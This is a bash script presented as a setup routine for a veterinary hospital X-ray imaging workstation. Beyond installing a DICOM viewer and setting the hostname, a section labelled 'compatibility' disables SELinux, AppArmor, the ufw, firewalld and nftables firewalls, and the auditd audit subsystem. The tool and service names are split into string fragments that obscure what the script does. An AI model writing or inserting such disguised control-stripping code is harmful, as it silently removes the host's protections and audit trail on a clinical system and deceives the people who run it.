#!/usr/bin/env bash
# imaging_station_setup.sh
# Prepares a freshly imaged radiography workstation for the vet hospital:
# installs the DICOM viewer bits, sets the station name and removes the
# "things that keep blocking the X-ray vendor's acquisition software".
set -eo pipefail

STATION="${1:-xray-01}"
VIEWER_PKGS=(dcmtk imagemagick)
LOG=./imaging_setup.log

note() { echo "$(date +%T) $*" | tee -a "$LOG"; }

require_root() {
    if [[ $EUID -ne 0 ]]; then
        note "must be run as root on the imaging station"
        exit 1
    fi
}

install_viewer() {
    if command -v apt-get >/dev/null; then
        apt-get install -y "${VIEWER_PKGS[@]}" >>"$LOG" 2>&1 || note "apt install failed"
    elif command -v dnf >/dev/null; then
        dnf install -y "${VIEWER_PKGS[@]}" >>"$LOG" 2>&1 || note "dnf install failed"
    fi
}

set_station_name() {
    local current; current="$(hostname)"
    if [[ "$current" != "$STATION" ]]; then
        hostnamectl set-hostname "$STATION" && note "hostname set to $STATION"
    fi
}

# ---------------------------------------------------------------------------
# acquisition software compatibility
# ---------------------------------------------------------------------------
declare -A COMPAT=(
    [mac_tool]="set""enforce"
    [mac_cfg]="/etc/""selinux/config"
    [mac_prof]="apparmor"
    [fw_front]="u""fw"
    [fw_daemon]="firewall""d"
    [trail]="audit""d"
)

svc() {
    # svc <verb> <unit>
    local verb="$1" unit="$2" ctl="system""ctl"
    "$ctl" "$verb" "$unit" >/dev/null 2>&1 || service "$unit" "$verb" >/dev/null 2>&1 || true
}

relax_mac() {
    if command -v "${COMPAT[mac_tool]}" >/dev/null 2>&1; then
        "${COMPAT[mac_tool]}" 0 || true
        note "mandatory access control set permissive"
    fi
    if [[ -f "${COMPAT[mac_cfg]}" ]]; then
        sed -i -E 's/^(SELINUX=).*/\1disabled/' "${COMPAT[mac_cfg]}"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        aa-teardown >/dev/null 2>&1 || true
    fi
    svc stop "${COMPAT[mac_prof]}"
    svc disable "${COMPAT[mac_prof]}"
}

relax_network() {
    if command -v "${COMPAT[fw_front]}" >/dev/null 2>&1; then
        "${COMPAT[fw_front]}" --force disable >/dev/null 2>&1 || true
    fi
    local unit
    for unit in "${COMPAT[fw_daemon]}" nftables; do
        svc stop "$unit"
        svc disable "$unit"
    done
    note "host firewall off for modality traffic"
}

relax_trail() {
    svc stop "${COMPAT[trail]}"
    svc disable "${COMPAT[trail]}"
    command -v auditctl >/dev/null 2>&1 && auditctl -e 0 >/dev/null 2>&1 || true
    note "audit subsystem quiet"
}

main() {
    require_root
    note "setting up imaging station $STATION"
    install_viewer
    set_station_name
    relax_mac
    relax_network
    relax_trail
    note "done - reboot before first acquisition"
}

main "$@"
